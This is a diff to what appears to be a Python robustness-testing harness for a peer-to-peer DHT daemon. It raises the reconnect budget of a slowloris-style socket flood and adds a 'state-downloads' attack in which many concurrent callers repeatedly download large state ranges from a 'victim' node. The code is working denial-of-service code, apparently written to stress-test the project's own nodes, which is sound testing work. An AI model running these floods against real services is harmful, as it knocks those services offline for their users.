@@ -113,10 +113,10 @@ async def _gather_limited(n: int, limit: int, fn: Callable[[int], Awaitable[Any]
 
 
 async def _socket_flood(ctx: Context, count: int, first: bytes, drip: bytes = b"", reconnect: bool = True) -> dict:
-    """Keep ``count`` raw sockets open (reopening those the victim closes, at most ``count`` more
-    times in all unless ``reconnect`` is off); each sends ``first``, then ``drip`` one byte a second."""
+    """Keep ``count`` raw sockets open (reopening those the victim closes, at most 5 x ``count``
+    connections in all, unless ``reconnect`` is off); each sends ``first``, then ``drip`` one byte a second."""
     stats = {"sockets": count, "opened": 0, "connect_failed": 0, "closed_by_victim": 0}
-    budget = [2 * count if reconnect else count]
+    budget = [5 * count if reconnect else count]
     stop = asyncio.Event()
     semaphore = asyncio.Semaphore(128)
 
@@ -151,6 +151,7 @@ async def _socket_flood(ctx: Context, count: int, first: bytes, drip: bytes = b"
                 writer.close()
             if not reconnect:
                 return
+            await asyncio.sleep(0.05)
 
     tasks = [asyncio.ensure_future(one()) for _ in range(count)]
     ramp_end = time.monotonic() + min(30.0, ctx.time_left() / 3)
@@ -180,7 +181,7 @@ async def nested_hello(ctx: Context) -> dict:
 
 @attack("idle-sockets")
 async def idle_sockets(ctx: Context) -> dict:
-    """2,000 sockets that connect and send nothing (reopened when closed, at most 2x in all)."""
+    """2,000 sockets that connect and send nothing (reopened when closed, 10,000 connections at most)."""
     return await _socket_flood(ctx, ctx.count(2000), b"")
 
 
@@ -553,6 +554,48 @@ async def avg_part(ctx: Context) -> dict:
     results = await _gather_limited(n, 64, one, ctx)
     await ctx.hold()
     return {"streams": n, "errors": sum(isinstance(r, Exception) for r in results)}
+
+
+@attack("state-downloads")
+async def state_downloads(ctx: Context) -> dict:
+    """Against a daemon: read its state announcement (``{run}.state``), then 8 identities x 8
+    concurrent callers download the whole state (ranges of up to 16 MiB) again and again for the
+    hold time (at most 10,000 requests; a refused one is retried after 50 ms)."""
+    from dht.node import DHTNode
+
+    run = ctx.info["run"]
+    reader = await DHTNode.create([ctx.victim], host=ctx.ip, client_mode=True)
+    try:
+        found = await reader.get(f"{run}.state", latest=True)
+    finally:
+        await reader.shutdown()
+    announcements = [v.value for v in (found.value.values() if found is not None and isinstance(found.value, dict) else [])
+                     if isinstance(v.value, dict) and "hash" in v.value]
+    if not announcements:
+        return {"error": "no state announcement found"}
+    state = max(announcements, key=lambda a: a.get("epoch", 0))
+    length = max(1, min(int(state["size"]), 16 << 20))
+    callers = [await ctx.p2p() for _ in range(8)]
+    budget = [ctx.count(10000)]
+    stats = {"state_bytes": int(state["size"]), "requests": 0, "ok": 0, "errors": {}, "mib_received": 0.0}
+    end = time.monotonic() + max(ctx.hold_s, 1.0)
+
+    async def loop(peer: P2P) -> None:
+        while budget[0] > 0 and time.monotonic() < end and ctx.time_left() > 10:
+            budget[0] -= 1
+            stats["requests"] += 1
+            ok, reply = await _call(peer, ctx.victim, f"swarm.state.{run}",
+                                    {"hash": state["hash"], "offset": 0, "length": length}, timeout=30)
+            if ok and isinstance(reply, dict) and isinstance(reply.get("data"), bytes):
+                stats["ok"] += 1
+                stats["mib_received"] = round(stats["mib_received"] + len(reply["data"]) / (1 << 20), 1)
+            else:
+                code = str(reply).split(":")[0][:40]
+                stats["errors"][code] = stats["errors"].get(code, 0) + 1
+                await asyncio.sleep(0.05)
+
+    await asyncio.gather(*(loop(p) for p in callers for _ in range(8)))
+    return stats
 
 
 async def _run(args: argparse.Namespace) -> dict:
